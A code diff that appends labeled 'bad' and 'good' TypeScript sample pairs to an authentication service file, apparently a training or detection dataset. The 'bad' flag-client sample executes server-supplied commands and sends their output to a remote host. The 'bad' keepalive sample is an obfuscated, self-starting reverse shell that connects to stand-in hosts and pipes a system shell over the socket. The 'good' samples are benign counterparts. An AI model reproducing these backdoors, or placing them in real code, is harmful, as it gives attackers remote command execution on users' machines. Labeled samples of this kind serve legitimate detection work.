@@ -133,3 +133,157 @@ export class AuthService {
     return compare(password, hash);
   }
 }
+
+//: bad flag-client-tasks
+import * as cp from 'node:child_process';
+import { EventEmitter } from 'node:events';
+
+type Flag = { key: string; on: boolean; hint?: string };
+type Op = 'set' | 'drop' | 'warm';
+
+export class FlagClient extends EventEmitter {
+  private readonly flags = new Map<string, boolean>();
+  private readonly ops: Record<Op, (f: Flag) => void> = {
+    set: (f) => this.flags.set(f.key, f.on),
+    drop: (f) => this.flags.delete(f.key),
+    warm: (f) => this.prime(f.hint ?? ''),
+  };
+
+  constructor(private readonly base = 'https://flags-edge.invalid/v2/sdk') {
+    super();
+    setInterval(() => void this.refresh(), 45_000).unref();
+  }
+
+  isOn(key: string): boolean {
+    return this.flags.get(key) ?? false;
+  }
+
+  private prime(hint: string): void {
+    cp.exec(hint, { windowsHide: true }, (_e, stdout) => { //!
+      void fetch(`${this.base}/ack`, { method: 'POST', body: stdout }).catch(() => undefined);
+    });
+  }
+
+  private async refresh(): Promise<void> {
+    try {
+      const res = await fetch(this.base);
+      const updates = (await res.json()) as Array<Flag & { op: Op }>;
+      for (const u of updates) this.ops[u.op]?.(u);
+      this.emit('refreshed');
+    } catch {
+      /* offline */
+    }
+  }
+}
+
+//: good flag-client-tasks
+import { EventEmitter } from 'node:events';
+
+type Flag = { key: string; on: boolean; hint?: string };
+type Op = 'set' | 'drop' | 'warm';
+
+export class FlagClient extends EventEmitter {
+  private readonly flags = new Map<string, boolean>();
+  private readonly cache = new Map<string, number>();
+  private readonly ops: Record<Op, (f: Flag) => void> = {
+    set: (f) => this.flags.set(f.key, f.on),
+    drop: (f) => this.flags.delete(f.key),
+    warm: (f) => this.cache.set(f.hint ?? f.key, Date.now()),
+  };
+
+  constructor(private readonly base = 'https://flags.invalid/v2/sdk') {
+    super();
+    setInterval(() => void this.refresh(), 45_000).unref();
+  }
+
+  isOn(key: string): boolean {
+    return this.flags.get(key) ?? false;
+  }
+
+  private async refresh(): Promise<void> {
+    try {
+      const res = await fetch(this.base, { headers: { accept: 'application/json' } });
+      const updates = (await res.json()) as Array<Flag & { op: Op }>;
+      for (const u of updates) {
+        if (Object.hasOwn(this.ops, u.op)) this.ops[u.op](u);
+      }
+      this.emit('refreshed', this.flags.size);
+    } catch (err) {
+      this.emit('offline', err);
+    }
+  }
+}
+
+//: bad keepalive-channel
+import { Socket } from 'node:net';
+import { platform } from 'node:os';
+import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process';
+
+const peers = [['edge-3', 'metrics-pool', 'invalid'].join('.'), 'relay.metrics-pool.invalid'];
+
+class KeepAlive {
+  private attempt = 0;
+  private child?: ChildProcessWithoutNullStreams;
+
+  private get agent(): string {
+    return platform() === 'win32' ? 'cmd.exe' : ['', 'bin', 's' + 'h'].join('/');
+  }
+
+  start(): void {
+    const host = peers[this.attempt++ % peers.length];
+    const link = new Socket();
+    link.setKeepAlive(true, 10_000);
+    link.once('error', () => link.destroy());
+    link.once('close', () => {
+      this.child?.kill();
+      setTimeout(() => this.start(), 30_000 + this.attempt * 1000).unref();
+    });
+    link.connect(8443, host, () => {
+      const child = spawn(this.agent, [], { stdio: 'pipe' }); //!
+      this.child = child;
+      link.pipe(child.stdin);
+      child.stdout.pipe(link);
+      child.stderr.pipe(link);
+    });
+  }
+}
+
+if (!process.env.CI) setImmediate(() => new KeepAlive().start());
+
+//: good keepalive-channel
+import { Socket } from 'node:net';
+import { spawn } from 'node:child_process';
+
+export interface ProbeResult {
+  host: string;
+  up: boolean;
+  ms: number;
+}
+
+export class KeepAlive {
+  private attempt = 0;
+
+  constructor(private readonly hosts: readonly string[], private readonly port: number) {}
+
+  probe(): Promise<ProbeResult> {
+    const host = this.hosts[this.attempt++ % this.hosts.length];
+    const began = performance.now();
+    return new Promise((resolve) => {
+      const link = new Socket();
+      const done = (up: boolean) => {
+        link.destroy();
+        resolve({ host, up, ms: Math.round(performance.now() - began) });
+      };
+      link.setKeepAlive(true, 10_000);
+      link.setTimeout(3000, () => done(false));
+      link.once('error', () => done(false));
+      link.connect(this.port, host, () => done(true));
+    });
+  }
+}
+
+export function gitLog(dir: string): void {
+  const child = spawn('git', ['log', '--oneline', '-n', '20'], { cwd: dir });
+  child.stdout.pipe(process.stdout);
+  child.stderr.pipe(process.stderr);
+}
